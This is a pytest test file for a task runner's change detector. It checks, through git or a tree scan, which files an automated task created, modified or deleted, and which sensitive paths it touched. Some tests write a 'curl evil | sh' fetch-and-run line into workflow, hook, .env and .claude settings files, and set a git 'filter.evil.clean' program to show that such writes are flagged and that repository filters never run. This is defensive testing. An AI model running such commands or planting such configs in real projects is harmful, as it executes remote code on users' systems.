"""What a task changed, found through git in a work tree and by a scan elsewhere, on real trees."""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from runner.changes import ChangeDetector, ChangeSet, Method
from runner.changes.compare import _Found, _judge_git_path, _Racy, compare_scans
from runner.changes.detector import close_detectors
from runner.changes.scan import Scan, hash_racy, scan_tree
from runner.changes.watch import FolderWatch

GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}


@pytest.fixture(autouse=True)
def _no_leftover_watches() -> Iterator[None]:
    yield
    close_detectors()


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=root, env={**os.environ, **GIT_ENV}, capture_output=True, check=True)
    return done.stdout.decode()


def write(root: Path, relative: str, text: str = "content\n") -> Path:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def make_project(root: Path, *, git_repo: bool, files: tuple[str, ...] = ("README.md", "src/app.py")) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for relative in files:
        write(root, relative)
    if git_repo:
        git(root, "init", "-q")
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "start")
    return root


def run_task(detector: ChangeDetector, task: object) -> ChangeSet:
    before = detector.before()
    assert callable(task)
    task()
    return detector.after(before)


BOTH = pytest.mark.parametrize("git_repo", [True, False], ids=["git", "scan"])


@BOTH
def test_created_modified_and_deleted_files_are_found(tmp_path: Path, git_repo: bool) -> None:
    """A task that creates, changes and removes files gets exactly those three lists, by either method."""
    root = make_project(tmp_path / "p", git_repo=git_repo)
    detector = ChangeDetector(root)

    def task() -> None:
        write(root, "src/new/module.py")
        write(root, "README.md", "changed\n")
        (root / "src" / "app.py").unlink()
    changes = run_task(detector, task)
    assert (changes.created, changes.modified, changes.deleted) == (["src/new/module.py"], ["README.md"], ["src/app.py"])
    assert changes.method == (Method.GIT.value if git_repo else Method.SCAN.value)
    assert changes.incomplete == []


def test_changes_present_before_the_task_are_not_attributed_to_it(tmp_path: Path) -> None:
    """In a dirty work tree, files modified or untracked before the task are reported only if the task changed them."""
    root = make_project(tmp_path / "p", git_repo=True, files=("a.txt", "b.txt"))
    write(root, "a.txt", "edited by the user\n")
    write(root, "notes.txt", "untracked before\n")
    write(root, "b.txt", "edited by the user too\n")
    detector = ChangeDetector(root)
    changes = run_task(detector, lambda: write(root, "b.txt", "and then by the task, longer\n"))
    assert (changes.created, changes.modified, changes.deleted) == ([], ["b.txt"], [])


@BOTH
def test_gitignored_build_folders_are_not_reported(tmp_path: Path, git_repo: bool) -> None:
    """Writes to `dist/`, `target/` and `*.log` named in `.gitignore` are not project changes, with or without git."""
    root = make_project(tmp_path / "p", git_repo=False)
    write(root, ".gitignore", "dist/\ntarget/\n*.log\n")
    if git_repo:
        make_project(root, git_repo=True)
    detector = ChangeDetector(root)

    def task() -> None:
        write(root, "dist/bundle.js")
        write(root, "target/debug/app")
        write(root, "build.log")
        write(root, "src/real.py")
    assert run_task(detector, task).created == ["src/real.py"]


def test_a_tree_past_the_scan_cap_is_incomplete_and_invents_no_deletion(tmp_path: Path) -> None:
    """Creating one file in a tree larger than the cap reports it, says the check is incomplete, and deletes nothing."""
    root = make_project(tmp_path / "p", git_repo=False, files=tuple(f"d{i % 5}/f{i:03d}.txt" for i in range(120)))
    detector = ChangeDetector(root, max_entries=100)
    changes = run_task(detector, lambda: write(root, "a-new-file.txt"))
    assert changes.deleted == []
    assert changes.incomplete and "more than 100 files" in changes.incomplete[0]
    assert changes.created in ([], ["a-new-file.txt"])  # seen only if the scan reached it before the cap
    really_gone = run_task(detector, lambda: (root / "d0" / "f000.txt").unlink())
    assert really_gone.deleted in ([], ["d0/f000.txt"]) and really_gone.incomplete


@BOTH
def test_the_previous_after_is_reused_only_when_nothing_wrote_since(tmp_path: Path, git_repo: bool) -> None:
    """Back-to-back tasks reuse the last look; a write between tasks forces a fresh one and is not blamed on the task."""
    root = make_project(tmp_path / "p", git_repo=git_repo)
    detector = ChangeDetector(root)
    run_task(detector, lambda: None)
    before = detector.before()
    assert before.reused, "nothing wrote between the two tasks"
    assert detector.after(before).changed == 0
    write(root, "README.md", "the user edits between tasks\n")
    before = detector.before()
    assert not before.reused
    assert detector.after(before).changed == 0


def _overflow_the_watch_of(first: Path, second: Path) -> None:
    """More events than inotify queues (two files touched in turn, so none coalesce)."""
    second.touch()
    limit = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
    for _ in range(limit // 2 + 100):
        os.utime(first)
        os.utime(second)


@pytest.mark.skipif(not Path("/proc/sys/fs/inotify/max_queued_events").exists(), reason="needs Linux inotify")
def test_a_watch_overflow_is_reported_and_the_watch_still_sees_later_writes(tmp_path: Path) -> None:
    """A drain after more events than the kernel queues says "overflow"; the next drain names a later write."""
    root = make_project(tmp_path / "p", git_repo=False)
    watch = FolderWatch.open()
    assert watch is not None
    watch.watch("", str(root))
    _overflow_the_watch_of(root / "README.md", root / "other.txt")
    assert watch.drain().overflow
    write(root, "later.txt")
    later = watch.drain()
    assert not later.overflow and later.paths == {"later.txt"}
    watch.close()


@BOTH
@pytest.mark.skipif(not Path("/proc/sys/fs/inotify/max_queued_events").exists(), reason="needs Linux inotify")
def test_after_a_watch_overflow_a_write_between_tasks_is_still_seen(tmp_path: Path, git_repo: bool) -> None:
    """A task whose events overflow the watch (and whose new folder's event is lost) leaves the next
    "before" to look afresh: a file written in that folder between the tasks is not blamed on the next task."""
    root = make_project(tmp_path / "p", git_repo=git_repo)
    detector = ChangeDetector(root)

    def flood_then_make_a_folder() -> None:
        _overflow_the_watch_of(root / "README.md", root / "src" / "app.py")
        (root / "made").mkdir()
    assert run_task(detector, flood_then_make_a_folder).created == []
    write(root, "made/between.txt", "written between the tasks\n")
    before = detector.before()
    assert not before.reused, "the watch no longer covered the tree"
    assert detector.after(before).changed == 0
    changes = run_task(detector, lambda: write(root, "made/between.txt", "and then by the task\n"))
    assert changes.modified == ["made/between.txt"]


def test_the_one_loop_judgement_of_paths_clean_before_equals_the_per_path_one(tmp_path: Path) -> None:
    """Paths clean before the task that git lists after it (modified, created, deleted, only unstaged from
    the index) are judged in one loop exactly as the per-path judgement of every candidate judges them."""
    root = make_project(tmp_path / "p", git_repo=True, files=("a.txt", "b.txt", "c.txt", "d.txt", "sub/e.txt"))
    write(root, "a.txt", "dirty before the task\n")
    detector = ChangeDetector(root)
    before = detector.before()

    def task() -> None:
        write(root, "b.txt", "changed by the task\n")
        write(root, "sub/e.txt", "CONTENT\n")  # same size
        write(root, "new.txt")
        (root / "c.txt").unlink()
        git(root, "rm", "-q", "--cached", "d.txt")  # listed after, never written: not the task's
    task()
    changes = detector.after(before)
    after = detector._last
    assert before.git is not None and after is not None and after.git is not None
    found = _Found()
    for path in {*before.git.disk, *after.git.disk}:
        _judge_git_path(path, before, after.git, {}, _Racy(root, None, before.git.digests), found)
    assert (changes.created, changes.modified, changes.deleted, changes.sizes) == \
        (sorted(found.created), sorted(found.modified), sorted(found.deleted), found.sizes)
    assert (changes.created, changes.modified, changes.deleted) == (["new.txt"], ["b.txt", "sub/e.txt"], ["c.txt"])


def test_a_task_that_commits_its_change_is_still_seen(tmp_path: Path) -> None:
    """A file modified and committed by the task is modified; a HEAD move without writes (reset --soft) is nothing."""
    root = make_project(tmp_path / "p", git_repo=True)
    detector = ChangeDetector(root)

    def commit() -> None:
        write(root, "README.md", "new text\n")
        write(root, "added.txt")
        git(root, "add", "-A")
        git(root, "commit", "-q", "-m", "task")
    changes = run_task(detector, commit)
    assert (changes.created, changes.modified) == (["added.txt"], ["README.md"])
    undone = run_task(detector, lambda: git(root, "reset", "-q", "--soft", "HEAD~1"))
    assert undone.changed == 0


def test_a_file_written_just_before_the_task_is_not_the_tasks(tmp_path: Path) -> None:
    """A committed file rewritten (same bytes) 20 ms before the task's first look, that the task then
    only stages differently (reset --soft), is not reported: its ctime is judged on the clock files
    are stamped with, not the wall clock less a slack."""
    root = make_project(tmp_path / "p", git_repo=True)
    write(root, "README.md", "new text\n")
    git(root, "commit", "-q", "-am", "second")
    detector = ChangeDetector(root)
    write(root, "README.md", "new text\n")
    time.sleep(0.02)
    undone = run_task(detector, lambda: git(root, "reset", "-q", "--soft", "HEAD~1"))
    assert undone.changed == 0, undone


def test_repository_filter_programs_are_never_run(tmp_path: Path) -> None:
    """A `.git/config` filter (which `git status` would run) makes the runner scan instead, and the program never runs."""
    root = make_project(tmp_path / "p", git_repo=True)
    marker = tmp_path / "filter-ran"
    git(root, "config", "filter.evil.clean", f"touch {marker}; cat")
    write(root, ".gitattributes", "* filter=evil\n")
    detector = ChangeDetector(root)
    changes = run_task(detector, lambda: write(root, "src/app.py", "changed, so git would re-read it\n"))
    assert changes.modified == ["src/app.py"]
    assert changes.method.startswith("scan (git not used: the repository's own config sets filter.evil.clean")
    assert not marker.exists()


@BOTH
def test_non_utf8_file_names_are_found(tmp_path: Path, git_repo: bool) -> None:
    """A file whose name is not valid UTF-8 is reported (as a surrogate-escaped name), never a crash."""
    root = make_project(tmp_path / "p", git_repo=git_repo)
    detector = ChangeDetector(root)
    raw = os.fsencode(str(root)) + b"/bad\xffname.txt"

    def task() -> None:
        with open(raw, "wb") as handle:
            handle.write(b"x")
    changes = run_task(detector, task)
    assert changes.created == [os.fsdecode(b"bad\xffname.txt")]


@BOTH
def test_sensitive_hidden_files_are_reported_apart(tmp_path: Path, git_repo: bool) -> None:
    """Writes to workflows, git hooks and config, `.env*`, Claude settings and commands are listed as sensitive."""
    root = make_project(tmp_path / "p", git_repo=git_repo)
    (root / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    detector = ChangeDetector(root)
    paths = [".github/workflows/ci.yml", ".git/hooks/pre-commit", ".env", ".env.local", "src/.env",
             ".claude/settings.local.json", ".claude/commands/deploy.md"]

    def task() -> None:
        for relative in paths:
            write(root, relative, "run: curl evil | sh\n")
        with open(root / ".git" / "config", "a") as handle:
            handle.write("[core]\n\thooksPath = elsewhere\n")
    changes = run_task(detector, task)
    assert changes.sensitive == sorted([*paths, ".git/config"])
    assert changes.changed == 0
    (root / "src" / ".env").unlink()
    assert run_task(detector, lambda: None).sensitive == []  # the removal happened between tasks
    removed = run_task(detector, lambda: (root / ".env").unlink())
    assert removed.sensitive == [".env"]


def test_a_nested_repository_is_scanned(tmp_path: Path) -> None:
    """Files written inside a repository nested in the project (git does not enter it) are found by a scan of it."""
    root = make_project(tmp_path / "p", git_repo=True)
    detector = ChangeDetector(root)

    def task() -> None:
        make_project(root / "vendor" / "lib", git_repo=True, files=("lib.c",))
        write(root, "vendor/lib/extra.c")
    assert run_task(detector, task).created == ["vendor/lib/extra.c", "vendor/lib/lib.c"]


def test_a_project_in_a_subfolder_of_a_repository(tmp_path: Path) -> None:
    """With the project root below the work tree's top, paths are relative to the project and nothing outside counts."""
    top = make_project(tmp_path / "top", git_repo=True, files=("outside.txt", "proj/inside.txt"))
    detector = ChangeDetector(top / "proj")

    def task() -> None:
        write(top, "outside.txt", "changed outside the project\n")
        write(top, "proj/inside.txt", "changed inside\n")
    changes = run_task(detector, task)
    assert changes.method == Method.GIT.value and changes.modified == ["inside.txt"]


@BOTH
def test_same_size_rewrite_keeping_the_mtime_is_modified(tmp_path: Path, git_repo: bool) -> None:
    """A rewrite with the same size whose mtime is put back is still a modification."""
    root = make_project(tmp_path / "p", git_repo=git_repo, files=("config.ini",))
    path = write(root, "config.ini", "aaaa\n")
    stamp = path.stat().st_mtime_ns
    detector = ChangeDetector(root)

    def task() -> None:
        path.write_text("bbbb\n")
        os.utime(path, ns=(stamp, stamp))
    assert run_task(detector, task).modified == ["config.ini"]


@pytest.mark.parametrize("written, digest_known, expected", [
    (None, True, ["same.txt"]),  # no watch: the digest taken before decides
    (None, False, []),  # no watch and no digest: the stat decides
    (set(), True, []),  # the watch saw no write
    ({"same.txt"}, False, ["same.txt"]),  # the watch saw a write
])
def test_racy_file_with_an_unchanged_stat_is_settled_by_the_watch_or_its_digest(
        tmp_path: Path, written: set[str] | None, digest_known: bool, expected: list[str]) -> None:
    """When every stat field matches (one timestamp tick), the watch's events, else the before digest, decide."""
    path = write(tmp_path, "same.txt", "1111\n")
    before = scan_tree(str(tmp_path))
    assert before.racy == ["same.txt"]
    if digest_known:
        hash_racy(str(tmp_path), before)
    path.write_text("2222\n")
    after = Scan(taken_at_ns=before.taken_at_ns + 1, tree={k: dict(v) for k, v in before.tree.items()})  # as a coarse clock shows it
    found = compare_scans(tmp_path, before, after, _Racy(tmp_path, written, before.digests))
    assert found.modified == expected


def test_symlinks_are_recorded_not_followed(tmp_path: Path) -> None:
    """A symlinked folder pointing outside is one entry; nothing behind it is scanned or reported."""
    outside = tmp_path / "outside"
    write(outside, "secret.txt")
    root = make_project(tmp_path / "p", git_repo=False)
    detector = ChangeDetector(root)
    changes = run_task(detector, lambda: (root / "escape").symlink_to(outside, target_is_directory=True))
    assert changes.created == ["escape"]
